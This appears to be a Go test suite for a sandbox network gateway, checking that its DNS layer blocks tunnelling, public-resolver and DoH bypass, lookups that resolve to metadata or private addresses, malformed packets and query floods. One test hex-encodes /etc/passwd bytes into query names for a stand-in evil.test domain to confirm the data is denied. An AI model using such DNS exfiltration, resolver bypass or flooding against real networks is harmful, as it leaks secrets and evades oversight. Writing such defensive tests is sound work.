//go:build linux

package corpus_test

import (
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"sallyport/audit"
	"sallyport/test/lab"
)

func dnsPolicy() map[string]string {
	return map[string]string{"dns.hcl": `
sandbox "v6" {
  ipv6 = true
  allow "*.v6.test" { addresses = DOCS }
}
sandbox "dns09" {
  allow "*.dns09.test" {}
  allow "private.named.dns09.test" { addresses = ["10.0.0.0/8"] }
}
`}
}

// ask is a question that must be answered.
func ask(t *testing.T, s *lab.Sandbox, name string, kind uint16) *dns.Msg {
	t.Helper()
	m, err := s.Ask(name, kind)
	if err != nil {
		t.Fatalf("%s %s: %v", name, dns.TypeToString[kind], err)
	}
	return m
}

// question is a message with one question.
func question(name string, kind uint16) *dns.Msg {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), kind)
	return m
}

func TestDNS01DataInNames(t *testing.T) {
	begin(t)
	s := s1(t)
	passwd, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	data := hex.EncodeToString(passwd[:30])
	host := data + ".dns01.evil.test"
	events := s.Expect(t, []string{"dns deny host_not_allowed " + host}, func() { ask(t, s, host, dns.TypeA) })
	if e := events[0]; e.DNS.QName != host+"." && e.DNS.QName != host {
		t.Errorf("the record has the name %q", e.DNS.QName)
	}
	s.Expect(t, unnamed("data."+host, "host_not_allowed"), func() {
		check(t, s.Get(t, "http://data."+host+"/"), 403, "host_not_allowed")
	})
	for _, kind := range []uint16{dns.TypeTXT, dns.TypeMX, dns.TypeNULL, dns.TypeSRV} {
		ask(t, s, data+fmt.Sprint(kind)+".dns01.evil.test", kind)
	}
	unasked(t, data)
	silent(t, host)
}

func TestDNS03PublicResolvers(t *testing.T) {
	l := begin(t)
	s := s1(t)
	for _, tt := range []struct{ network, resolver string }{
		{"udp", "8.8.8.8:53"}, {"tcp", "8.8.8.8:53"}, {"tcp", "9.9.9.9:53"}, {"udp", "1.1.1.1:53"},
		{"udp", "[2001:4860:4860::8888]:53"}, {"tcp", "[2001:4860:4860::8888]:53"}, {"udp", "203.0.113.53:53"},
	} {
		t.Run(tt.network+" "+tt.resolver, func(t *testing.T) {
			host := l.Unique("x") + ".dns03.evil.test"
			events := s.Expect(t, []string{"dns deny host_not_allowed " + host}, func() {
				m, err := s.Exchange(tt.network, tt.resolver, question(host, dns.TypeA))
				if err != nil {
					t.Fatal(err)
				}
				if len(m.Answer) != 1 || m.Answer[0].Header().Name != host+"." {
					t.Errorf("answered %v", m)
				}
			})
			if e := events[0]; e.DNS.Transport != tt.network || net.JoinHostPort(e.Dst.IP, "53") != tt.resolver {
				t.Errorf("recorded as %s to %s", e.DNS.Transport, e.Dst.IP)
			}
		})
	}
	if q := l.DNS.Public(); len(q) > 0 {
		t.Errorf("a public resolver was asked: %+v", q)
	}
	unasked(t, "dns03")
}

func TestDNS04DoTAndDoH(t *testing.T) {
	l := begin(t)
	dot := l.Peer(t, "1.1.1.1:853", nil)
	s := s1(t)
	s.Expect(t, []string{"conn deny dot_blocked 1.1.1.1"}, func() { s.Plain(t, "1.1.1.1:853").Rest(t, 3*time.Second) })
	if dot.Accepted() > 0 {
		t.Error("the resolver was reached")
	}
	s.Expect(t, append(named("dns04.good.test"), "conn deny dot_blocked dns04.good.test"), func() {
		s.Plain(t, "dns04.good.test:853").Rest(t, 3*time.Second)
	})
	s.Expect(t, []string{"packet deny dot_blocked"}, func() { datagram(t, s, "1.1.1.1:853") })
	s.Expect(t, unnamed("dns.google.dns04.test", "host_not_allowed"), func() {
		check(t, s.Get(t, "https://dns.google.dns04.test/dns-query?name=x"), 403, "host_not_allowed")
	})
	silent(t, "dns.google.dns04.test", "dns04.good.test")
	s.Expect(t, []string{"dns allow gateway_name use-application-dns.net"}, func() {
		if m := ask(t, s, "use-application-dns.net", dns.TypeA); m.Rcode != dns.RcodeNameError {
			t.Errorf("got %v", m)
		}
	})
}

func TestDNS05NoAAAAIsNoNXDOMAIN(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "dns05.good.test"
	var aaaa *dns.Msg
	s.Expect(t, []string{"dns allow rule_allow " + host}, func() { aaaa = ask(t, s, host, dns.TypeAAAA) })
	if aaaa.Rcode != dns.RcodeSuccess || len(aaaa.Answer) != 0 {
		t.Errorf("AAAA: %v", aaaa)
	}
	if len(aaaa.Ns) != 1 || aaaa.Ns[0].Header().Rrtype != dns.TypeSOA || aaaa.Ns[0].(*dns.SOA).Minttl > 30 {
		t.Errorf("AAAA has no SOA with a short negative TTL: %v", aaaa.Ns)
	}
	// As musl does: both questions at once on one socket.
	c, err := s.DialIP("udp", "192.0.2.1:53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	a4, a6 := question(host, dns.TypeA), question(host, dns.TypeAAAA)
	dc := &dns.Conn{Conn: c}
	for _, m := range []*dns.Msg{a4, a6} {
		if err := dc.WriteMsg(m); err != nil {
			t.Fatal(err)
		}
	}
	for range 2 {
		m, err := dc.ReadMsg()
		if err != nil {
			t.Fatal(err)
		}
		if want := 0; m.Rcode != dns.RcodeSuccess || m.Id == a4.Id && len(m.Answer) != 1 || m.Id == a6.Id && len(m.Answer) != want {
			t.Errorf("got %v", m)
		}
	}
	t.Run("where the sandbox has IPv6", func(t *testing.T) {
		s := attached(t, "v6")
		if m := ask(t, s, "dns05.v6.test", dns.TypeAAAA); len(m.Answer) != 1 {
			t.Errorf("AAAA: %v", m)
		}
		c, err := s.TLS("dns05.v6.test:443", nil)
		if err != nil {
			t.Fatal(err)
		}
		_ = c.Close()
	})
	for _, q := range world.lab.DNS.Asked(host) {
		t.Errorf("asked before there was a connection: %+v", q)
	}
}

func TestDNS06RefusalsAreFastAndTheSame(t *testing.T) {
	l := alone(t) // it measures how soon questions are refused
	kinds := []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeMX, dns.TypeTXT, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeANY}
	policy := l.MustPolicy(t, p0, real)
	for mode, rcode := range map[string]int{"explain": dns.RcodeSuccess, "refused": dns.RcodeRefused, "nxdomain": dns.RcodeNameError} {
		t.Run(mode, func(t *testing.T) {
			s := l.RunSandbox(t, lab.RunOptions{Policy: policy, Sandbox: "s1", Flags: []string{"--denied", mode}})
			for _, kind := range kinds {
				begun := time.Now()
				m := ask(t, s, "dns06.evil.test", kind)
				if took := time.Since(begun); took > time.Second {
					t.Errorf("%s took %v", dns.TypeToString[kind], took)
				}
				if m.Rcode != rcode {
					t.Errorf("%s: %s", dns.TypeToString[kind], dns.RcodeToString[m.Rcode])
				}
				for _, rr := range slices.Concat(m.Answer, m.Ns) {
					if rr.Header().Ttl > 30 {
						t.Errorf("%s: TTL of %v", dns.TypeToString[kind], rr)
					}
				}
				if (len(m.Answer) > 0) != (mode == "explain" && kind == dns.TypeA) {
					t.Errorf("%s: answers %v", dns.TypeToString[kind], m.Answer)
				}
			}
		})
	}
	unasked(t, "dns06.evil")
	t.Run("a later allow works soon", func(t *testing.T) {
		g := l.Gateway(t, lab.GatewayOptions{Policy: map[string]string{"p.hcl": "sandbox \"s1\" {}\n"}})
		s := g.Attach(t, "s1")
		check(t, s.Get(t, "https://dns06.late.test/"), 403, "host_not_allowed")
		g.SetPolicy(t, "p.hcl", l.MustPolicy(t, "sandbox \"s1\" {\n  allow \"dns06.late.test\" { addresses = DOCS }\n}\n", real))
		check(t, s.Get(t, "https://dns06.late.test/"), 200, "")
	})
}

func TestDNS07ServiceRecords(t *testing.T) {
	l := begin(t)
	s := s1(t)
	const host = "dns07.good.test"
	l.DNS.Set(host, "60 A 203.0.113.10", `60 HTTPS 1 . alpn="h3,h2" ipv4hint="203.0.113.66" ech="AEX+DQBBpQAgACBLZXk="`)
	for _, tt := range []struct {
		name string
		kind uint16
	}{{host, dns.TypeHTTPS}, {host, dns.TypeSVCB}, {"_443._https." + host, dns.TypeSVCB}} {
		m := ask(t, s, tt.name, tt.kind)
		if m.Rcode != dns.RcodeSuccess || len(m.Answer) != 0 {
			t.Errorf("%s %s: %v", tt.name, dns.TypeToString[tt.kind], m)
		}
	}
	a := ask(t, s, "dns07.evil.test", dns.TypeA)
	h := ask(t, s, "dns07.evil.test", dns.TypeHTTPS)
	if a.Rcode != h.Rcode || len(h.Answer) != 0 {
		t.Errorf("a denied name: A %v, HTTPS %v", a, h)
	}
	check(t, s.Get(t, "https://"+host+"/"), 200, "")
	for _, q := range l.DNS.Asked(host) {
		if q.Type != dns.TypeA && q.Type != dns.TypeAAAA {
			t.Errorf("asked upstream: %+v", q)
		}
	}
	unasked(t, "dns07.evil")
}

func TestDNS08CNAME(t *testing.T) {
	l := begin(t)
	s := s1(t)
	chain := func(host string, links int) {
		l.DNS.Script(host, func(q dns.Question, m *dns.Msg) {
			name := host + "."
			for i := range links {
				next := fmt.Sprintf("edge%d.cdn.dns08.test.", i)
				m.Answer = append(m.Answer, &dns.CNAME{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeCNAME, Class: dns.ClassINET, Ttl: 60}, Target: next})
				name = next
			}
			if q.Qtype == dns.TypeA {
				m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(lab.Origin)})
			}
		})
	}
	for _, links := range []int{1, 3, 12} {
		host := fmt.Sprintf("chain%d.dns08.good.test", links)
		chain(host, links)
		s.Expect(t, allowed(host), func() {
			check(t, s.Get(t, "https://"+host+"/", "Authorization: Bearer $API_KEY"), 200, "")
		})
		if q := origin(host).Requests(); len(q) != 1 || q[0].Host != host || q[0].Header["Authorization"][0] != "Bearer "+real {
			t.Errorf("the origin saw %+v", q)
		}
		for _, rr := range ask(t, s, host, dns.TypeA).Answer {
			if rr.Header().Rrtype == dns.TypeCNAME {
				t.Errorf("the sandbox saw %v", rr)
			}
		}
	}
	s.Expect(t, unnamed("edge0.cdn.dns08.test", "host_not_allowed"), func() {
		check(t, s.Get(t, "https://edge0.cdn.dns08.test/"), 403, "host_not_allowed")
	})
	silent(t, "edge0.cdn.dns08.test")
	l.DNS.Set("loop.dns08.good.test", "60 CNAME loop2.dns08.good.test.")
	l.DNS.Set("loop2.dns08.good.test", "60 CNAME loop.dns08.good.test.")
	s.Expect(t, refused("loop.dns08.good.test", "resolve_failed"), func() {
		begun := time.Now()
		check(t, s.Get(t, "https://loop.dns08.good.test/"), 502, "resolve_failed")
		if took := time.Since(begun); took > 4*time.Second {
			t.Errorf("a loop took %v", took)
		}
	})
}

func TestDNS09AllowedNameWithABadAddress(t *testing.T) {
	l := begin(t)
	metadata := l.Peer(t, "169.254.169.254:443", nil)
	s := attached(t, "dns09")
	for _, tt := range []struct{ name, reason, records string }{
		{"metadata", "resolves_metadata", "60 A 169.254.169.254"},
		{"loopback", "resolves_loopback", "60 A 127.0.0.1"},
		{"private", "resolves_private", "60 A 10.0.0.5"},
		{"shared", "resolves_private", "60 A 100.64.0.1"},
		{"unspecified", "resolves_loopback", "60 A 0.0.0.0"},
		{"self", "resolves_self", "60 A " + lab.Uplink},
		{"benchmark", "resolves_reserved", "60 A 198.18.0.5"},
		{"mixed", "resolves_private", "60 A 8.8.8.8|60 A 10.0.0.5"},
		{"linklocal", "resolves_link_local", "60 A 169.254.1.1"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			host := tt.name + ".dns09.test"
			l.DNS.Set(host, strings.Split(tt.records, "|")...)
			events := s.Expect(t, refused(host, tt.reason), func() {
				a := s.Get(t, "https://"+host+"/")
				check(t, a, 403, tt.reason)
			})
			addr := strings.Fields(tt.records[strings.LastIndex(tt.records, "|")+1:])[2]
			if e := events[2]; e.Upstream == nil || e.Upstream.IP != addr || strings.Contains(e.Message, addr) {
				t.Errorf("the record: %q, upstream %+v; want %s, for the operator alone", e.Message, e.Upstream, addr)
			}
		})
	}
	t.Run("addresses of the rule", func(t *testing.T) {
		l.DNS.Set("private.named.dns09.test", "60 A 10.255.0.5")
		s.Expect(t, allowed("private.named.dns09.test"), func() { // admitted; nobody is there
			if a := s.Get(t, "https://private.named.dns09.test/"); a.Reason() == "resolves_private" {
				t.Errorf("got %d %s", a.Status, a.Body)
			}
		})
	})
	if metadata.Accepted() > 0 {
		t.Error("the metadata address was dialled")
	}
}

func TestDNS13TruncationAndTCP(t *testing.T) {
	l := begin(t)
	s := s1(t)
	const host = "dns13.good.test"
	l.DNS.Script(host, func(q dns.Question, m *dns.Msg) {
		for i := range 120 {
			if q.Qtype == dns.TypeA {
				m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.IPv4(203, 0, 113, byte(10+i))})
			}
		}
	})
	s.Expect(t, allowed(host), func() { check(t, s.Get(t, "https://"+host+"/"), 200, "") })
	if q := l.DNS.Asked(host); !slices.ContainsFunc(q, func(q lab.Question) bool { return q.Transport == "tcp" }) {
		t.Errorf("a cut answer was not asked for again over TCP: %+v", q)
	}
	for _, size := range []uint16{0, 512, 1232, 4096} {
		m := question(host, dns.TypeA)
		if size > 0 {
			m.SetEdns0(size, false)
		}
		for _, network := range []string{"udp", "tcp"} {
			r, err := s.Exchange(network, "192.0.2.1:53", m)
			if err != nil || r.Truncated || len(r.Answer) != 1 {
				t.Errorf("%s, size %d: %v %v", network, size, r, err)
			}
		}
	}
}

func TestDNS15Malformed(t *testing.T) {
	alone(t) // others measure how soon they are answered
	s := s1(t)
	head := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
	packets := []string{
		head + "\xc0\x0c\x00\x01\x00\x01",                      // a pointer to itself
		head + "\xc0\xff\x00\x01\x00\x01",                      // past the end
		head + "\x40aaaa\x00\x00\x01\x00\x01",                  // label type 01
		head + "\x80aaaa\x00\x00\x01\x00\x01",                  // label type 10
		head[:11],                                              // too short
		head + "\x3fshort",                                     // label past the end
		head + "\x04good\x04test\x00",                          // no type
		"\x12\x34\x81\x80" + head[4:] + "\x00\x00\x01\x00\x01", // an answer
	}
	c, err := s.DialIP("udp", "192.0.2.1:53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for _, p := range packets {
		if _, err := c.Write([]byte(p)); err != nil {
			t.Fatal(err)
		}
	}
	zeros := s.Plain(t, "192.0.2.1:53")
	zeros.Send(t, "\xff\xff"+strings.Repeat("\x00", 0xffff))
	zeros.Rest(t, 15*time.Second)
	again := func() (m *dns.Msg) { // as a resolver does; a full buffer drops its questions too
		t.Helper()
		eventually(t, func() (err error) { m, err = s.Ask("dns15.good.test", dns.TypeA); return err })
		if m == nil {
			t.FailNow()
		}
		return m
	}
	for i := range 40_000 {
		p := []byte(head + "\x04good\x04test\x00\x00\x01\x00\x01")
		p[(i*7)%len(p)] ^= byte(i*131 + i>>3)
		p[(i*13)%len(p)] ^= byte(i * 31)
		p = p[:len(p)-(i>>4)%9*((i>>3)&1)] // some are cut off
		if _, err := c.Write(p); err != nil {
			t.Fatal(err)
		}
		if i%1000 == 0 { // what a full buffer drops is not tried
			again()
		}
	}
	if m := again(); len(m.Answer) != 1 {
		t.Errorf("afterwards: %v", m)
	}
	refused := 0
	for _, e := range s.Decisions() {
		if e.Kind == "dns" && e.Reason == "protocol_error" {
			refused += int(max(e.Count, 1))
		}
	}
	if refused < len(packets) {
		t.Errorf("%d refusals are recorded", refused)
	}
}

func TestDNS16Options(t *testing.T) {
	l := begin(t)
	s := s1(t)
	const host = "dns16.good.test"
	m := question(host, dns.TypeA)
	m.SetEdns0(4096, false)
	o := m.IsEdns0()
	o.Option = append(o.Option,
		&dns.EDNS0_LOCAL{Code: 65001, Data: []byte(strings.Repeat("SECRET", 160))},
		&dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 32, Address: net.ParseIP("10.9.8.7").To4()},
		&dns.EDNS0_NSID{Code: dns.EDNS0NSID}, &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "24a5ac1223344556"})
	r, err := s.Exchange("udp", "8.8.8.8:53", m)
	if err != nil || len(r.Answer) != 1 {
		t.Fatalf("got %v, %v", r, err)
	}
	if got := r.IsEdns0(); got == nil || len(got.Option) != 0 {
		t.Errorf("the answer's options: %v", got)
	}
	check(t, s.Get(t, "https://"+host+"/"), 200, "")
	for _, q := range l.DNS.Asked(host) {
		if len(q.Options) > 0 {
			t.Errorf("options left the gateway: %v", q.Options)
		}
	}
	one := question(host, dns.TypeA)
	one.SetEdns0(1232, false)
	one.IsEdns0().SetVersion(1)
	if r, err := s.Exchange("udp", "8.8.8.8:53", one); err != nil || r.Rcode != dns.RcodeBadVers {
		t.Errorf("version 1: %v, %v", r, err)
	}
}

func TestDNS17Reverse(t *testing.T) {
	alone(t) // likewise
	s := s1(t)
	for _, name := range []string{"1.0.66.10.in-addr.arpa", "data.1.168.192.in-addr.arpa",
		"1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa"} {
		begun := time.Now()
		m := ask(t, s, name, dns.TypePTR)
		if m.Rcode != dns.RcodeNameError || time.Since(begun) > time.Second {
			t.Errorf("%s: %s after %v", name, dns.RcodeToString[m.Rcode], time.Since(begun))
		}
	}
	a, err := s.Resolve("dns17.good.test", dns.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	name, err := dns.ReverseAddr(a.String())
	if err != nil {
		t.Fatal(err)
	}
	if m := ask(t, s, name, dns.TypePTR); len(m.Answer) != 1 || m.Answer[0].(*dns.PTR).Ptr != "dns17.good.test." {
		t.Errorf("PTR of a leased address: %v", m)
	}
	unasked(t, "arpa")
	for _, e := range s.Decisions() {
		if e.Verdict == "deny" && e.Severity != audit.Low {
			t.Errorf("%s has severity %s", lab.Line(e), e.Severity)
		}
	}
}

func TestDNS18SearchList(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "dns18.good.test"
	before := s.Mark()
	for _, name := range []string{host + ".corp.internal", host + ".svc.cluster.local"} {
		if m := ask(t, s, name, dns.TypeA); m.Rcode != dns.RcodeNameError {
			t.Errorf("%s: %v", name, m)
		}
	}
	if m := ask(t, s, host, dns.TypeA); len(m.Answer) != 1 {
		t.Errorf("%s: %v", host, m)
	}
	if m := ask(t, s, "dns18", dns.TypeA); m.Rcode != dns.RcodeNameError {
		t.Errorf("a single label: %v", m)
	}
	for _, e := range s.Decisions()[before:] {
		if e.Verdict == "deny" && e.Severity != audit.Low {
			t.Errorf("%s has severity %s", lab.Line(e), e.Severity)
		}
	}
	unasked(t, "dns18")
}

func TestDNS20ConnectionsOutliveTTL(t *testing.T) {
	l := begin(t)
	const host = "dns20.test"
	allow := l.MustPolicy(t, "sandbox \"s1\" {\n  allow \"dns20.test\" { addresses = DOCS }\n}\n", real)
	g := l.Gateway(t, lab.GatewayOptions{Policy: map[string]string{"p.hcl": allow}})
	s := g.Attach(t, "s1")
	l.DNS.Set(host, "1 A 203.0.113.10")
	a, err := s.Resolve(host, dns.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	w := s.Secure(t, host+":443")
	w.Send(t, get("/", host))
	check(t, w.Answer(t, "GET"), 200, "")
	time.Sleep(1500 * time.Millisecond)
	w.Send(t, get("/", host))
	check(t, w.Answer(t, "GET"), 200, "")
	dial := func() (lab.Answer, error) {
		c, err := s.DialIP("tcp", netip.AddrPortFrom(a, 443).String())
		if err != nil {
			return lab.Answer{}, err
		}
		return sayTLS(t, s, c, host, get("/", host)), nil
	}
	if answer, err := dial(); err != nil || answer.Status != 200 {
		t.Errorf("the address of before: %v %v", answer, err)
	}
	g.SetPolicy(t, "p.hcl", "sandbox \"s1\" {}\n")
	before := s.Mark()
	answer, err := dial()
	if err != nil {
		t.Fatal(err)
	}
	check(t, answer, 403, "host_not_allowed")
	s.Decided(t, before, []string{"conn deny host_not_allowed " + host, "http deny host_not_allowed " + host})
}

func TestDNS21AddressesAreNeverAnothersName(t *testing.T) {
	l := begin(t)
	policy := l.MustPolicy(t, "sandbox \"s1\" {\n  allow \"*.dns21.test\" { addresses = DOCS }\n}\n", real)
	g := l.Gateway(t, lab.GatewayOptions{Policy: map[string]string{"p.hcl": policy}})
	s := g.Attach(t, "s1")
	seen := map[netip.Addr]string{}
	lease := func(host string) netip.Addr {
		a, err := s.Resolve(host, dns.TypeA)
		if err != nil {
			t.Fatal(err)
		}
		if other, ok := seen[a]; ok && other != host {
			t.Fatalf("%v is %s and %s", a, other, host)
		}
		seen[a] = host
		return a
	}
	first := lease("n0.dns21.test")
	for i := range 300 {
		lease(fmt.Sprintf("n%d.dns21.test", i))
	}
	if err := g.Stop(); err != nil {
		t.Fatal(err)
	}
	if err := g.Start(); err != nil {
		t.Fatal(err)
	}
	for i := range 300 {
		lease(fmt.Sprintf("m%d.dns21.test", i))
	}
	if again := lease("n0.dns21.test"); again != first {
		t.Errorf("the address was %v and is %v", first, again)
	}
	s.Expect(t, []string{"conn deny authority_mismatch n0.dns21.test", "http deny authority_mismatch n0.dns21.test"}, func() {
		c, err := s.DialIP("tcp", netip.AddrPortFrom(first, 443).String())
		if err != nil {
			t.Fatal(err)
		}
		check(t, sayTLS(t, s, c, "m0.dns21.test", get("/", "m0.dns21.test")), 421, "authority_mismatch")
	})
	silent(t, "m0.dns21.test", "n0.dns21.test")
}

func TestDNS23Flood(t *testing.T) {
	alone(t) // it is a flood
	flooder, other := s1(t), s1(t)
	stop, done := make(chan struct{}), make(chan int)
	go func() {
		n := 0
		defer func() { done <- n }()
		c, err := flooder.DialIP("udp", "192.0.2.1:53")
		if err != nil {
			return
		}
		defer c.Close()
		for {
			select {
			case <-stop:
				return
			default:
			}
			b, _ := question(fmt.Sprintf("f%d.dns23.evil.test", n), dns.TypeA).Pack()
			_, _ = c.Write(b) // a full buffer is no matter
			n++
			if n%200 == 0 {
				time.Sleep(10 * time.Millisecond)
			}
		}
	}()
	var slowest time.Duration
	for i := range 20 {
		begun := time.Now()
		ask(t, other, fmt.Sprintf("q%d.dns23.good.test", i), dns.TypeA)
		slowest = max(slowest, time.Since(begun))
		time.Sleep(25 * time.Millisecond)
	}
	close(stop)
	n := <-done
	if slowest > 2*time.Second {
		t.Errorf("beside %d questions the slowest answer took %v", n, slowest)
	}
	if n < 1000 {
		t.Errorf("the flood was of %d questions", n)
	}
	unasked(t, "dns23.evil")
}

func TestDNS24LocalNames(t *testing.T) {
	begin(t)
	s, other := s1(t), s1(t)
	for _, name := range []string{"localhost", "foo.localhost"} {
		m := ask(t, s, name, dns.TypeA)
		if len(m.Answer) != 1 || m.Answer[0].(*dns.A).A.String() != "127.0.0.1" {
			t.Errorf("%s: %v", name, m)
		}
	}
	for _, name := range []string{"_gateway", "printer.local"} {
		if m := ask(t, s, name, dns.TypeA); m.Rcode != dns.RcodeNameError {
			t.Errorf("%s: %v", name, m)
		}
	}
	for _, name := range []string{"localhost.", "_gateway.", "printer.local."} {
		unasked(t, name)
	}
	before := other.Mark()
	s.Expect(t, []string{"packet deny udp_blocked", "packet deny udp_blocked"}, func() {
		for _, group := range []string{"224.0.0.251:5353", "224.0.0.252:5355"} {
			c, err := s.DialIP("udp", group)
			if err != nil {
				t.Fatal(err)
			}
			_, _ = c.Write([]byte("who is there")) // refused at once
			_ = c.Close()
		}
	})
	if n := other.Mark(); n != before {
		t.Errorf("another sandbox has %d records", n-before)
	}
}
